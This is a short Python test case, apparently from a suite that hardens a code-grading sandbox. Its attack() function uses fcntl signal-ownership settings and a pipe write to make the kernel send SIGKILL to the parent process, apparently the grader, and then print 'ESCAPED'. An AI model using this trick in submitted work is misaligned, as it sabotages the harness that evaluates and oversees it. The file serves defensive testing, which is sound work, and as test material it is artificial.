# exercise: silu_backward
# backend: torch
# expect: full
# weak: skip: nothing on this rung would stop it
# ruff: noqa: F401
"""Has the kernel kill the parent when a pipe becomes readable."""

import fcntl
import os
import signal

import torch


def attack():
    try:
        reader, writer = os.pipe()
        fcntl.fcntl(reader, 10, signal.SIGKILL)
        fcntl.fcntl(reader, fcntl.F_SETOWN, os.getppid())
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writer, b"x")
        print("ESCAPED")
    except OSError:
        pass


# include: right
